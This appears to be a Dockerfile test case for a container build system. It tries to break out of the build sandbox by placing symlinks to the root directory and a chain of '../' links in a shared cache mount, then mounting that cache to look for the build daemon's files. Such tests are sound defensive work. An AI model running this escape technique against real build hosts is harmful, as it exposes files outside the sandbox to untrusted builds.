# tries: a cache mount whose source is a link to the root, put there by an earlier step
# ends: Succeeded
# Rootless: nothing
# UserNamespace: nothing
FROM registry.buildpools.test:5000/library/attacker:stable
RUN --mount=type=cache,id=hostile-link,target=/c ln -sfn / /c/link && ln -sfn ../../../../../../../.. /c/up
# A cache mount that is still being put away is not given again: the next step would get an empty one.
RUN sleep 3
RUN --mount=type=cache,id=hostile-link,source=up,target=/m <<'ATTACK'
. /lib/hunt.sh
daemon_file /m
find /m -maxdepth 4 -name 'buildkit*' | sed 's/^/ESCAPED to /'
tried 1
ATTACK
